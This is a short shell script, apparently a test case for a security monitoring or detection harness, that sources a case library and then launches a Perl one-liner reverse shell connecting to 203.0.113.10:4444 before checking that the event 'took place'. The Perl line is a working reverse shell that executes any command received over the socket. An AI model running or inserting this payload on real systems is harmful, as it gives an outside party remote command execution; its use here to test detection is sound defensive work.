#!/bin/sh
. /opt/case/case.sh

# shellcheck disable=SC2016 # the variables are Perl's
perl -MIO -e '$p=fork;exit,if($p);foreach my $key(keys %ENV){if($ENV{$key}=~/(.*)/){$ENV{$key}=$1;}}$c=new IO::Socket::INET(PeerAddr,"203.0.113.10:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){if($_=~ /(.*)/){system $1;}};'
wait_for /tmp/reached
took_place
